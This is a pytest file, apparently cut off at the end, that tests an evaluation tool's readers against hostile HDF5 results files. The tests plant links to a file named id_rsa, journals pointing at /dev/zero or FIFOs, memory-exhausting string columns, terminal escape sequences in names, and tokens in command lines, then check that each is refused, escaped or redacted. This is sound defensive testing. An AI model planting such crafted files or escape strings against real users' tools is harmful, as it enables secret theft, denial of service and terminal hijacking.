"""Issue 27, the reading side: a results file (journal, sweep summary) is untrusted input.

Each test builds the attack with real h5py and the real writer, then runs the real readers in-process (``mpitp
inspect`` through click, ``diff``, ``rescore``'s and ``--resume``'s reading): links and data in other files are
refused with one line and exit status 2 and the secret never printed or copied (item 5); malformed files end as one
line, never a traceback (item 7); names from a file are printed escaped (item 8); the recorded settings and command
line drop secrets (item 9); trust_remote_code is part of the run's identity and shown (item 10); test hooks need
``MPITP_TESTING=1`` and are recorded (item 11).
"""

from __future__ import annotations

import json
import logging
import os

import h5py
import numpy as np
import pytest

os.environ.setdefault("HF_HUB_OFFLINE", "1")
os.environ.setdefault("HF_DATASETS_OFFLINE", "1")

from mpitp import testing  # noqa: E402
from mpitp.errors import UsageError  # noqa: E402
from mpitp.evaluation.checks import check_resumable  # noqa: E402
from mpitp.evaluation.settings import EvalConfig  # noqa: E402
from mpitp.results.journal import frame, journal_path  # noqa: E402
from mpitp.results.reader import BadInput  # noqa: E402
from mpitp.results.store import ResultWriter  # noqa: E402
from test_inspect import META, invoke, make_file  # noqa: E402

SECRET = b"TOPSECRETtopsecret"  # two 9-byte strings as a generation column
GEN = "tasks/syn_gen/requests/generation"


def one_line_exit_2(r) -> str:
    """The click result ended as one ``mpitp: error:`` line and status 2 (no traceback, no exception)."""
    assert r.exit_code == 2, (r.exit_code, r.output, r.exception)
    assert isinstance(r.exception, SystemExit), r.exception
    lines = r.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("mpitp: error: "), r.output
    return lines[0]


# ------------------------------------------------------------------------------ item 5: no other file is read

def _other_file(tmp_path) -> str:
    other = str(tmp_path / "other.h5")
    with h5py.File(other, "w") as g:
        g.create_dataset("gen", data=np.array([SECRET[:9], SECRET[9:]], dtype="S9"))
    return other


def plant(kind: str, path: str, tmp_path) -> None:
    """Replace syn_gen's generation column with one that reads elsewhere."""
    secret_file = tmp_path / "id_rsa"
    secret_file.write_bytes(SECRET)
    with h5py.File(path, "a") as f:
        del f[GEN]
        if kind == "external_storage":
            f.create_dataset(GEN, shape=(2,), dtype="S9", external=[(str(secret_file), 0, len(SECRET))])
        elif kind == "external_link":
            f[GEN] = h5py.ExternalLink(_other_file(tmp_path), "/gen")
        elif kind == "soft_link":
            f.create_dataset("private/gen", data=np.array([b"softlink1", b"softlink2"], dtype="S9"))
            f[GEN] = h5py.SoftLink("/private/gen")
        elif kind == "virtual":
            layout = h5py.VirtualLayout(shape=(2,), dtype="S9")
            layout[:] = h5py.VirtualSource(_other_file(tmp_path), "gen", shape=(2,))
            f.create_virtual_dataset(GEN, layout)


KINDS = ["external_storage", "external_link", "soft_link", "virtual"]
LEAKS = (SECRET[:9].decode(), SECRET[9:].decode(), "softlink")


@pytest.fixture(params=KINDS)
def planted(request, tmp_path):
    path = make_file(tmp_path / "evil.h5")
    plant(request.param, path, tmp_path)
    return path


@pytest.mark.parametrize("args", [[], ["--task", "syn_gen", "--requests"], ["--task", "syn_mc", "--samples"],
                                  ["--csv"]], ids=["table", "requests", "samples", "csv"])
def test_inspect_refuses_files_that_read_elsewhere(planted, args):
    line = one_line_exit_2(invoke(planted, *args))
    assert "refused" in line and "/tasks/syn_gen/requests/generation" in line
    assert not any(leak in line for leak in LEAKS)


def test_diff_refuses_files_that_read_elsewhere(planted, tmp_path):
    clean = make_file(tmp_path / "clean.h5")
    for a, b in ((clean, planted), (planted, clean)):
        r = invoke("diff", a, b)
        line = one_line_exit_2(r)
        assert "refused" in line and not any(leak in r.output for leak in LEAKS)


def test_rescore_and_resume_refuse_files_that_read_elsewhere(planted):
    from mpitp.evaluation.rescore import rescore

    with pytest.raises(UsageError, match="refused: /tasks/syn_gen/requests/generation") as exc:
        rescore(planted)
    assert exc.value.collective
    cfg = EvalConfig(model="synthetic/model", tasks=["syn_mc", "syn_gen"], limit=3)
    with pytest.raises(UsageError, match=f"cannot resume {planted}: .*refused"):
        check_resumable(planted, cfg)
    before = open(planted, "rb").read()
    with pytest.raises(BadInput, match="refused"):  # the writer's own reading (after the check) refuses too
        ResultWriter(planted, META, resume=True).close()
    assert open(planted, "rb").read() == before and SECRET[:9] not in before or "soft" in before.decode("latin-1")


def test_a_clean_file_is_still_read(tmp_path):
    """The check refuses what reads elsewhere, not what mpitp writes (gzip'd chunked columns, vlen strings)."""
    path = make_file(tmp_path / "clean.h5")
    r = invoke(path, "--task", "syn_gen", "--requests")
    assert r.exit_code == 0 and "answer 0\\nsecond line" in r.output, r.output


def test_resume_refuses_a_file_another_user_made(tmp_path, monkeypatch):
    """A results file uid 4242 planted at this run's --output in a shared (sticky) folder, its settings copied from
    a public run and its loglikelihoods forged: --resume took every row as this run's (0 requests computed, acc 0.0
    where the model scores 1.0) and wrote it back as this user's. Now one line; a file of this user's resumes."""
    path = make_file(tmp_path / "theirs.h5")
    real = os.lstat
    cfg = EvalConfig(model="synthetic/model", tasks=["syn_mc", "syn_gen"], limit=3)

    def lstat(p, *args, **kwargs):  # the file as another user made it (no chown needed to run as anyone)
        st = real(p, *args, **kwargs)
        return os.stat_result((*st[:4], 4242, *st[5:])) if os.fspath(p) == str(path) else st

    with monkeypatch.context() as m:
        m.setattr(os, "lstat", lstat)
        with pytest.raises(UsageError, match="cannot resume .*theirs.h5: it belongs to uid 4242, not to this user"):
            check_resumable(str(path), cfg)
    with pytest.raises(UsageError) as exc:  # this user's own file: checked for its settings as before
        check_resumable(str(path), cfg)
    assert "belongs to" not in str(exc.value)


def test_declared_size_beyond_the_file_is_refused_before_reading(tmp_path):
    path = make_file(tmp_path / "big.h5")
    with h5py.File(path, "a") as f:
        del f["stats/busy_s"]
        f.create_dataset("stats/busy_s", shape=(2**50,), maxshape=(None,), chunks=(1024,), dtype="f8")
    line = one_line_exit_2(invoke(path))
    assert "refused: /stats/busy_s declares (1125899906842624,) x 8 B" in line


def _one_string_for_every_row(path: str, chunked: bool, n: int = 3000) -> None:
    """``path``'s generation column made ``n`` rows that all name one stored 1 MiB string (a 1 MB file): HDF5 reads
    every row's copy, so readers allocated 3 GB before the check counted strings (session 27's probe: 6.2 GB RSS)."""
    import zlib

    with h5py.File(path, "a") as f:
        del f[GEN]
        d = f.create_dataset(GEN, shape=(n,), dtype=h5py.string_dtype(),
                             **(dict(chunks=(n,), compression="gzip") if chunked else {}))
        d[0] = "x" * (1 << 20)
        if chunked:
            mask, raw = d.id.read_direct_chunk((0,))
            data = zlib.decompress(raw)
            size = len(data) // n
            d.id.write_direct_chunk((0,), zlib.compress(data[:size] * n), mask)
            return
        offset = d.id.get_offset()
    with open(path, "r+b") as fh:
        fh.seek(offset)
        first = fh.read(16)
        fh.seek(offset)
        fh.write(first * n)


@pytest.mark.parametrize("chunked", [True, False], ids=["chunked-gzip", "contiguous"])
def test_strings_named_by_many_rows_are_refused_before_reading(chunked, tmp_path):
    path = make_file(tmp_path / "strings.h5")
    _one_string_for_every_row(path, chunked)
    assert os.path.getsize(path) < 2 << 20
    for args in ([], ["--task", "syn_gen", "--requests"]):
        line = one_line_exit_2(invoke(path, *args))
        assert "refused: its variable-length strings come to 3145" in line and GEN in line, line  # 3000 MiB + 1 kB


def test_attributes_of_many_strings_or_other_variable_length_data_are_refused(tmp_path):
    """mpitp writes one string per attribute, no variable-length data but strings, and no string fill value: an
    attribute of 1,000 strings naming one (3 GB read by plain ``inspect`` and ``report``), a variable-length sequence
    and a string column read as copies of its fill value are refused unread."""
    path = make_file(tmp_path / "attrs.h5")
    with h5py.File(path, "a") as f:
        f.attrs.create("model_extra", np.array(["a", "b"], dtype=object), dtype=h5py.string_dtype())
    assert "/ attribute model_extra holds 2 variable-length strings" in one_line_exit_2(invoke(path))
    path = make_file(tmp_path / "vlen.h5")
    with h5py.File(path, "a") as f:
        f["tasks/syn_mc"].create_dataset("extra", shape=(1,), dtype=h5py.vlen_dtype(np.int64))[0] = np.arange(3)
    line = one_line_exit_2(invoke(path))
    assert "/tasks/syn_mc/extra holds variable-length data other than strings" in line, line
    path = make_file(tmp_path / "fill.h5")  # 2,000 unwritten rows, each read as a copy of a 1 MiB fill value
    with h5py.File(path, "a") as f:
        f["tasks/syn_mc"].create_dataset("extra", shape=(2000,), chunks=(100,), dtype=h5py.string_dtype(),
                                         fillvalue=b"x" * (1 << 20))
    line = one_line_exit_2(invoke(path))
    assert "/tasks/syn_mc/extra holds variable-length strings whose unwritten rows read as a 1048576-byte" in line


@pytest.mark.parametrize("planted", ["dev_zero_link", "fifo"])
def test_planted_journal_is_refused_not_read(planted, tmp_path):
    """A journal beside the file is in a directory others may write to: a link to /dev/zero or a FIFO there is one
    line, not endless memory or a hang (the command as a subprocess, memory-bounded and timed: the old code did
    both)."""
    import resource
    import subprocess
    import sys

    path = _running(tmp_path)
    os.remove(journal_path(path))
    if planted == "fifo":
        os.mkfifo(journal_path(path))
    else:
        os.symlink("/dev/zero", journal_path(path))

    def bounded():
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))

    proc = subprocess.run([sys.executable, "-m", "mpitp", "inspect", path], capture_output=True, text=True,
                          timeout=60, preexec_fn=bounded)
    assert proc.returncode == 2 and proc.stderr.strip().splitlines() == [
        f"mpitp: error: {journal_path(path)}: refused: the journal is "
        + ("not a regular file" if planted == "fifo" else "a link or cannot be opened (Too many levels of symbolic "
           "links)")], proc.stderr


# ------------------------------------------------------------------------------ item 7: malformed files

def _attr(name, value):
    def edit(f):
        f.attrs[name] = value
    return edit


def _results_json(**parts):
    def edit(f):
        res = json.loads(f.attrs["results_json"])
        res.update(parts)
        f.attrs["results_json"] = json.dumps(res)
    return edit


def _scalar_doc_id(f):
    del f["tasks/syn_mc/requests/doc_id"]
    f["tasks/syn_mc/requests/doc_id"] = np.int64(3)


def _string_doc_id(f):
    n = f["tasks/syn_mc/requests/doc_id"].shape[0]
    del f["tasks/syn_mc/requests/doc_id"]
    f.create_dataset("tasks/syn_mc/requests/doc_id", data=np.array(["x"] * n, dtype=object), dtype=h5py.string_dtype())


def _stats_text(f):
    del f["stats/busy_s"]
    f.create_dataset("stats/busy_s", data=np.array(["a", "b"], dtype=object), dtype=h5py.string_dtype())


def _tasks_dataset(f):
    del f["tasks"]
    f["tasks"] = np.arange(3)


def _doc_scores_short(f):
    g = f.require_group("tasks/syn_mc/doc_scores")
    g["doc_id"] = np.arange(3)
    g["acc,none"] = np.arange(2.0)


MALFORMED_COMPLETE = {
    "results_list": _results_json(results=[1, 2]),
    "n_samples_list": _results_json(**{"n-samples": [1]}),
    "higher_is_better_list": _results_json(higher_is_better={"syn_mc": [1]}),
    "results_json_list": _attr("results_json", "[1, 2]"),
    "scalar_doc_id": _scalar_doc_id,
    "string_doc_id": _string_doc_id,
    "stats_text": _stats_text,
    "tasks_dataset": _tasks_dataset,
    "pp_text": _attr("pp", "many"),
}


@pytest.mark.parametrize("case", list(MALFORMED_COMPLETE))
def test_malformed_file_is_one_line_exit_2(case, tmp_path):
    path = make_file(tmp_path / "bad.h5")
    with h5py.File(path, "a") as f:
        MALFORMED_COMPLETE[case](f)
    if case == "pp_text":  # not an error: shown as it is, the layout read as one stage
        r = invoke(path)
        assert r.exit_code == 0 and "world 4 = dp 2 x tp 2" in r.output, (r.output, r.exception)
        return
    for args in ([], ["--task", "syn_mc", "--requests"], ["--json"]):
        r = invoke(path, *args)
        if r.exit_code == 0:  # a mode that does not read the damaged part
            continue
        one_line_exit_2(r)
    one_line_exit_2(invoke("diff", path, make_file(tmp_path / "ok.h5")))


def test_short_doc_scores_are_one_line(tmp_path):
    a, b = make_file(tmp_path / "a.h5"), make_file(tmp_path / "b.h5")
    for p in (a, b):
        with h5py.File(p, "a") as f:
            _doc_scores_short(f)
    r = invoke("diff", a, b)  # the request comparison is printed first; the statistics then fail with one line
    assert r.exit_code == 2 and isinstance(r.exception, SystemExit), (r.output, r.exception)
    assert r.output.strip().splitlines()[-1] == ("mpitp: error: per-document scores: doc_scores/acc,none has 2 "
                                                 "values for 3 documents")


@pytest.mark.parametrize("bad", ["text", "rows"])
def test_doc_scores_doc_id_not_integers_is_one_line(bad, tmp_path):
    """/tasks/<t>/doc_scores/doc_id as text or as a 3 x 2 array: mpitp report (which reads every task's scores)
    ended in a ValueError or TypeError traceback; now one line, exit 2."""
    from click.testing import CliRunner

    from mpitp.cli.report import report_command

    path = make_file(tmp_path / "bad.h5")
    with h5py.File(path, "a") as f:
        g = f.require_group("tasks/syn_mc/doc_scores")
        g["acc,none"] = np.arange(3.0)
        if bad == "text":
            g.create_dataset("doc_id", data=np.array(["x"] * 3, dtype=object), dtype=h5py.string_dtype())
        else:
            g["doc_id"] = np.zeros((3, 2), dtype=np.int64)
    r = CliRunner().invoke(report_command, [path, "-o", str(tmp_path / "r.html"), "--bootstrap-iters", "0"])
    line = one_line_exit_2(r)
    assert "doc_scores/doc_id holds " in line and "not one integer document number per row" in line, line
    assert not (tmp_path / "r.html").exists()


def _running(tmp_path, edit_attrs=None, records=()) -> str:
    path = str(tmp_path / "running.h5")
    w = ResultWriter(path, META)
    w.append("syn_mc", [dict(doc_id=0, idx=0, kind="loglikelihood", loglikelihood=-1.0, is_greedy=True,
                             generation="", n_tokens=3, args_hash="h")])
    w.flush()
    w.close()  # killed mid-run: snapshot + journal
    if edit_attrs:
        with h5py.File(path, "a") as f:
            edit_attrs(f)
    with open(journal_path(path), "ab") as j:
        for rec in records:
            j.write(frame(rec))
    return path


@pytest.mark.parametrize("case", ["journal_seq_array", "record_list", "record_tasks_list", "record_column_text",
                                  "record_seq_text", "record_ragged"])
def test_malformed_journal_is_one_line_exit_2(case, tmp_path):
    good = {"doc_id": [1], "idx": [0], "kind": ["loglikelihood"], "loglikelihood": [-2.0], "is_greedy": [False],
            "generation": [""], "n_tokens": [3], "args_hash": ["h2"]}
    path = {
        "journal_seq_array": lambda: _running(tmp_path, _attr("journal_seq", np.arange(3))),
        "record_list": lambda: _running(tmp_path, records=[[1, 2, 3]]),
        "record_tasks_list": lambda: _running(tmp_path, records=[{"seq": 9, "tasks": [1]}]),
        "record_column_text": lambda: _running(tmp_path, records=[{"seq": 9, "tasks": {"syn_mc": {
            **good, "doc_id": "abc"}}}]),
        "record_seq_text": lambda: _running(tmp_path, records=[{"seq": "9", "tasks": {}}]),
        "record_ragged": lambda: _running(tmp_path, records=[{"seq": 9, "tasks": {"syn_mc": {
            **good, "idx": [0, 1]}}}]),
    }[case]()
    for args in ([], ["--task", "syn_mc", "--requests"]):
        one_line_exit_2(invoke(path, *args))
    cfg = EvalConfig(model="synthetic/model", tasks=["syn_mc", "syn_gen"], limit=3)
    with pytest.raises(UsageError, match=f"cannot resume {path}: not an mpitp results file"):
        check_resumable(path, cfg)


@pytest.mark.parametrize("summary", [
    {"checkpoints": [{"model": "m", "name": "n", "output": "o", "status": "complete", "wall_s": "slow"}]},
    {"checkpoints": [{"model": "m", "name": "n", "output": "o", "status": "complete", "metrics": [1]}]},
    {"checkpoints": [{"model": "m", "name": "n", "output": "o", "status": "complete",
                      "metrics": {"t": {"acc,none": "high"}}}]},
    {"checkpoints": [], "comparisons": [1]},
    {"checkpoints": [], "comparisons": [{"sentence": "s"}]},
    {"checkpoints": {"a": 1}},
    [1, 2],
], ids=["wall_s_text", "metrics_list", "metric_text", "comparison_int", "comparison_partial", "checkpoints_map",
        "list"])
def test_malformed_sweep_summary_is_one_line_exit_2(summary, tmp_path):
    path = tmp_path / "sweep-summary.json"
    path.write_text(json.dumps(summary))
    assert "is not a sweep summary" in one_line_exit_2(invoke(path))


@pytest.mark.parametrize("config", ['[1, 2]', '{"tasks": 5}', '{"limit": "all"}', '{"include_path": 5}', "{"])
def test_malformed_recorded_settings_are_refused_by_rescore(config, tmp_path):
    from mpitp.evaluation.rescore import rescore

    path = make_file(tmp_path / "cfg.h5")
    with h5py.File(path, "a") as f:
        f.attrs["eval_config_json"] = config
    with pytest.raises(UsageError, match=f"cannot rescore {path}: its recorded settings are not valid"):
        rescore(path)


@pytest.mark.parametrize("attr,value", [("config_json", "[1]"), ("config_json", "{"),
                                        ("fingerprint_json", '{"identity": [1]}'),
                                        ("fingerprint_json", '{"identity": {}, "model_files": {"a": 1}}')])
def test_malformed_recorded_settings_are_refused_by_resume(attr, value, tmp_path):
    path = make_file(tmp_path / "cfg.h5")
    with h5py.File(path, "a") as f:
        f.attrs[attr] = value
    cfg = EvalConfig(model="synthetic/model", tasks=["syn_mc", "syn_gen"], limit=3)
    with pytest.raises(UsageError, match=f"cannot resume {path}: not an mpitp results file"):
        check_resumable(path, cfg)


def test_job_and_sweep_readers_refuse_or_skip_malformed_outputs(tmp_path):
    """``mpitp run``'s look at an existing output refuses a linked file (one line); a sweep's metrics of a checkpoint
    whose results are malformed are none, not a crash."""
    from mpitp.jobs.jobrun import output_status
    from mpitp.jobs.sweep import _metrics_from_file

    path = make_file(tmp_path / "out.h5")
    assert _metrics_from_file(path)["syn_mc"]["acc,none"] == pytest.approx(2 / 3)
    with h5py.File(path, "a") as f:
        f.attrs["results_json"] = json.dumps({"results": {"syn_mc": [1]}})
    assert _metrics_from_file(path) == {}
    with h5py.File(path, "a") as f:
        f["x"] = h5py.SoftLink("/tasks")
    with pytest.raises(UsageError, match="refused: /x is a soft link"):
        output_status(path)


# ------------------------------------------------------------------------------ item 8: escaped output

EVIL = "\x1b]0;owned\x07\x1b[2J\u202e"


def test_names_from_a_file_are_printed_escaped(tmp_path):
    path = str(tmp_path / "esc.h5")
    w = ResultWriter(path, {**META, "model": f"m{EVIL}"})
    w.append(f"task{EVIL}", [dict(doc_id=0, idx=0, kind="generate_until", loglikelihood=float("nan"),
                                  is_greedy=False, generation=f"gen{EVIL}\x9b31m", n_tokens=1, args_hash="h")])
    w.write_task(f"task{EVIL}", dict(n_docs=1), {f"acc{EVIL},none": 1.0}, samples=[{"doc": f"s{EVIL}"}])
    w.finish({"results": {f"task{EVIL}": {f"acc{EVIL},none": 1.0}}}, wall_time_s=1.0)
    outputs = [invoke(path), invoke(path, "--task", f"task{EVIL}", "--requests"),
               invoke(path, "--task", f"task{EVIL}", "--samples"), invoke(path, "--csv"),
               invoke("diff", path, make_file(tmp_path / "other.h5")), invoke(path, "--task", "nope")]
    for r in outputs:
        assert r.output and not any(c in r.output for c in "\x1b\x07\x9b\u202e"), repr(r.output)
    assert "m\\x1b]0;owned\\x07\\x1b[2J\\u202e" in outputs[0].output
    assert "acc\\x1b]0;owned" in outputs[0].output and "gen\\u001b]0;owned" in outputs[1].output


# ------------------------------------------------------------------------------ item 9: no secrets recorded

def test_secrets_are_left_out_of_what_a_file_records():
    from mpitp.evaluation.provenance import redact, redacted_command, secret_name

    assert [n for n in ("token", "hf_token", "WANDB_API_KEY", "api_key", "password", "client_secret", "key",
                        "use_auth_token") if not secret_name(n)] == []
    assert [n for n in ("max_new_tokens", "add_bos_token", "pad_token", "tokenizer", "prefix_token_id",
                        "max_length", "pretrained") if secret_name(n)] == []
    argv = ["mpitp", "eval", "--model_args", "pretrained=m,token=SECRET1,add_bos_token=True",
            "--hf_hub_log_args", "hub_results_org=me,token=SECRET2", "--wandb_args", '{"project": "p", '
            '"api_key": "SECRET3"}', "--api-key", "SECRET4", "--gen_kwargs", "max_new_tokens=5",
            "hf_abcdefghijklmnopqrstuvwxyz0123456789"]
    line = redacted_command(argv)
    assert not any(s in line for s in ("SECRET", "hf_abcdef")), line
    assert "add_bos_token=True" in line and "max_new_tokens=5" in line and "pretrained=m" in line
    cfg = {"model_args": {"pretrained": "m", "token": "SECRET5"}, "hf_hub_log_args": {"token": "SECRET6"},
           "wandb_args": {"project": "p", "WANDB_API_KEY": "SECRET7"}, "metadata": "x=1,password=SECRET8",
           "gen_kwargs": {"max_new_tokens": 5}}
    text = json.dumps(redact(cfg))
    assert "SECRET" not in text and '"max_new_tokens": 5' in text and '"pretrained": "m"' in text


# ------------------------------------------------------------------------------ item 10: trust_remote_code

def test_trust_remote_code_is_part_of_the_identity_and_shown(tmp_path):
    trusted = EvalConfig(model="m", tasks=["t"], trust_remote_code=True)
    assert trusted.identity()["trust_remote_code"] is True
    assert "trust_remote_code" not in EvalConfig(model="m", tasks=["t"]).identity()  # older files still resume
    path = str(tmp_path / "trc.h5")
    w = ResultWriter(path, {**META, "config_json": json.dumps(trusted.identity())})
    w.finish({"results": {}}, wall_time_s=1.0)
    r = invoke(path)
    assert r.exit_code == 0 and "remote code trust_remote_code: the model's own Python code" in r.output
    with pytest.raises(UsageError, match="trust_remote_code True in the file, None now"):
        check_resumable(path, EvalConfig(model="m", tasks=["t"]))


# ------------------------------------------------------------------------------ item 11: test hooks opt-in

@pytest.fixture
def hook_env(monkeypatch):
    for k in testing.HOOK_VARS:
        monkeypatch.delenv(k, raising=False)
    testing.hooks.cache_clear()
    yield monkeypatch
    testing.hooks.cache_clear()


def test_hooks_without_opt_in_are_ignored_with_a_warning(hook_env, caplog):
    hook_env.delenv("MPITP_TESTING", raising=False)
    hook_env.setenv("MPITP_TEST_ALTER_HEAD", "1.5")
    with caplog.at_level(logging.WARNING, logger="mpitp"):
        assert testing.hooks() == testing.Hooks() and testing.active() == []
    assert "ignoring MPITP_TEST_ALTER_HEAD: test hooks are live only with MPITP_TESTING=1" in caplog.text
    import torch

    head = type("Head", (), {"weight": torch.ones(2)})()
    testing.alter_head(head)
    assert torch.equal(head.weight, torch.ones(2))  # the run's results stay those of a clean run


def test_hooks_with_opt_in_are_recorded_and_shown(hook_env, tmp_path):
    hook_env.setenv("MPITP_TESTING", "1")
    hook_env.setenv("MPITP_TEST_ALTER_HEAD", "1.5")
    assert testing.hooks().alter_head == 1.5 and testing.active() == ["MPITP_TEST_ALTER_HEAD=1.5"]
    path = str(tmp_path / "hooked.h5")
    w = ResultWriter(path, {**META, "test_hooks": " ".join(testing.active())})
    w.finish({"results": {}}, wall_time_s=1.0)
    r = invoke(path)
    assert r.exit_code == 0 and "test hooks  MPITP_TEST_ALTER_HEAD=1.5 (a test run" in r.output


@pytest.mark.parametrize("var,value", [("MPITP_TEST_ALTER_HEAD", "big"), ("MPITP_TEST_STALL", "metrics"),
                                       ("MPITP_TEST_RAISE", "1"), ("MPITP_TEST_RAISE_IN_FORWARD", "x:2"),
                                       ("MPITP_TEST_OOM_ABOVE", "1.5")])
def test_malformed_hook_is_a_usage_error(hook_env, var, value):
    hook_env.setenv("MPITP_TESTING", "1")
    hook_env.setenv(var, value)
    with pytest.raises(UsageError, match=f"malformed test hook \\({var}="):
        testing.hooks()


def test_malformed_hook_ends_the_command_as_one_line(tmp_path):
    """Read by every command on every rank before any work (mpitp.cli.main): one line, status 2, whatever runs."""
    import subprocess
    import sys

    path = make_file(tmp_path / "f.h5")
    proc = subprocess.run([sys.executable, "-m", "mpitp", "inspect", path], capture_output=True, text=True,
                          timeout=120, env={**os.environ, "MPITP_TESTING": "1", "MPITP_TEST_STALL": "bad"})
    assert proc.returncode == 2 and proc.stderr.strip().splitlines() == [
        "mpitp: error: malformed test hook (MPITP_TEST_STALL='bad'): see mpitp/testing.py for the forms"], proc.stderr


def test_run_metadata_records_hooks_and_drops_secrets(hook_env, tmp_path):
    """The metadata a run writes (the real function, on a real config and a stand-in runtime)."""
    from types import SimpleNamespace

    from mpitp.evaluation.provenance import redact, run_metadata

    hook_env.setenv("MPITP_TESTING", "1")
    hook_env.setenv("MPITP_TEST_CHUNK_SEED", "3")
    hook_env.setattr("sys.argv", ["mpitp", "eval", "--hf_hub_log_args", "token=SECRET9"])
    cfg = EvalConfig(model=str(tmp_path), tasks=["t"], hf_hub_log_args={"token": "SECRET9"},
                     model_args={"pretrained": str(tmp_path), "token": "SECRET9"})
    rt = SimpleNamespace(world=SimpleNamespace(size=1, nodes_text="n:1"), layout=SimpleNamespace(tp=1, dp=1, pp=1))
    meta = run_metadata(cfg, rt, "tok")
    assert "SECRET9" not in json.dumps(meta) and meta["test_hooks"] == "MPITP_TEST_CHUNK_SEED=3"
    path = str(tmp_path / "meta.h5")
    ResultWriter(path, meta).finish(redact({"config": {"model_args": "pretrained=x,token=SECRET9"}}), 1.0)
    assert b"SECRET9" not in open(path, "rb").read()



# ------------------------------------------------------------------------------ items 9-11 in one real run

@pytest.mark.mpi
def test_real_run_drops_secrets_warns_of_remote_code_and_ignores_hooks_without_opt_in(tmp_path):
    """One real ``mpiexec`` demo run: a token given to lm-eval is nowhere in the file, trust_remote_code (from
    model_args) warns once naming the model and is shown by inspect, and an altered-head hook without
    ``MPITP_TESTING=1`` changes nothing (live, it would fail the head check: tests/test_head_check.py)."""
    from support.mpi import explain, run_mpi

    out = tmp_path / "run.h5"
    proc = run_mpi(1, ["eval", "--demo", "--limit", "1", "--model_args", "trust_remote_code=True",
                       "--hf_hub_log_args", "token=SECRET_HUB,hub_results_org=me", "--output", str(out)],
                   env={"MPITP_TESTING": "0", "MPITP_TEST_ALTER_HEAD": "2"}, cwd=str(tmp_path))
    assert proc.returncode == 0, explain(proc)
    warnings = [line for line in proc.stderr.splitlines() if "trust_remote_code is on: " in line]
    assert len(warnings) == 1 and "mpitp-demo-llama's own Python code" in warnings[0], proc.stderr
    assert "ignoring MPITP_TEST_ALTER_HEAD: test hooks are live only with MPITP_TESTING=1" in proc.stderr
    assert "head check: passed" in proc.stdout + proc.stderr
    assert b"SECRET_HUB" not in out.read_bytes()
    with h5py.File(out) as f:
        assert "token=<redacted>" in f.attrs["command"] and "test_hooks" not in f.attrs
    r = invoke(out)
    assert r.exit_code == 0 and "remote code trust_remote_code" in r.output and "test hooks" not in r.output


# ------------------------------------------------------------------------------ issue 37 items 5-8 (readers)

def _mpitp(*args, timeout: float = 30):
    """``mpitp ARGS`` as a child with a deadline: a reader that hangs (a FIFO's open) fails the test in seconds
    instead of holding the suite. ``report`` runs its click command in a plain Python child (``python -m mpitp
    report`` starts an MPI singleton, which a test outside ``-m mpi`` must not)."""
    import subprocess
    import sys

    if args[0] == "report":
        argv = [sys.executable, "-c", "import sys; from mpitp.cli.report import report_command; "
                "report_command.main(sys.argv[1:], prog_name='mpitp report')"]
        args = args[1:]
    else:
        argv = [sys.executable, "-m", "mpitp"]
    return subprocess.run([*argv, *map(str, args)], capture_output=True, text=True, timeout=timeout)


def test_fifos_and_devices_named_as_results_are_refused_or_skipped_not_waited_on(tmp_path):
    """Item 5: a FIFO named ``*.h5`` (or a sweep summary) blocked ``open`` forever in ``inspect`` and ``report DIR``.
    Named on the command line: one line, exit 2. Found in a directory: skipped with one warning line each (a link
    to ``/dev/zero`` too), and the report of the regular files is written. A link another user planted there to a
    results file of yours (which they cannot read) is skipped too, not published in your report; your own is read."""
    shared = tmp_path / "shared"
    shared.mkdir()
    make_file(shared / "good.h5")
    os.mkfifo(shared / "planted.h5")
    os.mkfifo(shared / "sweep-summary.json")
    os.symlink("/dev/zero", shared / "zero.h5")
    os.mkfifo(tmp_path / "summary.json")
    out = tmp_path / "report.html"
    private = make_file(tmp_path / "private.h5")  # yours; a co-user links it into the shared folder to read it
    with h5py.File(private, "a") as f:
        f.attrs["model"] = "private/model"
    os.symlink(private, shared / "theirs.h5")
    os.lchown(shared / "theirs.h5", 4321, 4321)

    proc = _mpitp("inspect", shared / "planted.h5")
    assert proc.returncode == 2 and proc.stderr.splitlines() == [
        f"mpitp: error: {shared / 'planted.h5'}: refused: it is a FIFO, not a regular file"], proc.stderr
    proc = _mpitp("inspect", tmp_path / "summary.json")
    assert proc.returncode == 2 and proc.stderr.splitlines() == [
        f"mpitp: error: {tmp_path / 'summary.json'}: refused: the sweep summary is a FIFO, not a regular file"], \
        proc.stderr
    proc = _mpitp("report", shared, "-o", out, "--bootstrap-iters", "0")
    assert proc.returncode == 0, proc.stderr
    assert sorted(proc.stderr.splitlines()) == [
        f"mpitp: warning: skipped {shared / 'planted.h5'}: a FIFO, not a regular file",
        f"mpitp: warning: skipped {shared / 'sweep-summary.json'}: a FIFO, not a regular file",
        f"mpitp: warning: skipped {shared / 'theirs.h5'}: a link made by uid 4321, not by this user "
        f"(uid {os.geteuid()}): not followed",
        f"mpitp: warning: skipped {shared / 'zero.h5'}: a character device, not a regular file"], proc.stderr
    assert "synthetic/model" in out.read_text() and "private/model" not in out.read_text()
    os.lchown(shared / "theirs.h5", os.geteuid(), os.getegid())  # a link of your own is followed
    proc = _mpitp("report", shared, "-o", out, "--bootstrap-iters", "0")
    assert proc.returncode == 0 and "private/model" in out.read_text(), proc.stderr


def test_a_folders_file_that_is_not_a_results_file_is_skipped_named_one_is_refused(tmp_path):
    """The probe (session 29): an empty ``x.h5`` another user left in a shared folder made ``report DIR`` exit 2, no
    page, though FIFOs and links there are skipped. Now skipped with one warning line each (an empty file, another
    program's HDF5); named on the command line it is still one line, exit 2; a folder with nothing readable too."""
    shared = tmp_path / "shared"
    shared.mkdir()
    make_file(shared / "good.h5")
    (shared / "empty.h5").write_bytes(b"")
    with h5py.File(shared / "other.h5", "w") as f:
        f["x"] = [1, 2, 3]
    out = tmp_path / "report.html"
    proc = _mpitp("report", shared, "-o", out, "--bootstrap-iters", "0")
    assert proc.returncode == 0, proc.stderr
    lines = sorted(proc.stderr.splitlines())
    assert [ln.startswith(f"mpitp: warning: skipped {shared / n}") for ln, n in zip(lines, ("empty", "other"))] == \
        [True, True] and len(lines) == 2, lines
    assert "synthetic/model" in out.read_text()
    proc = _mpitp("report", shared / "empty.h5", "-o", out)
    assert proc.returncode == 2 and len(proc.stderr.splitlines()) == 1, proc.stderr
    (shared / "good.h5").unlink()
    proc = _mpitp("report", shared, "-o", out)
    assert proc.returncode == 2 and proc.stderr.splitlines()[-1].startswith(
        "mpitp: error: no readable results files among the 2 found in"), proc.stderr


@pytest.mark.parametrize("checked", ["moved away", "deleted"])
def test_open_h5_opens_the_file_it_checked(tmp_path, monkeypatch, checked):
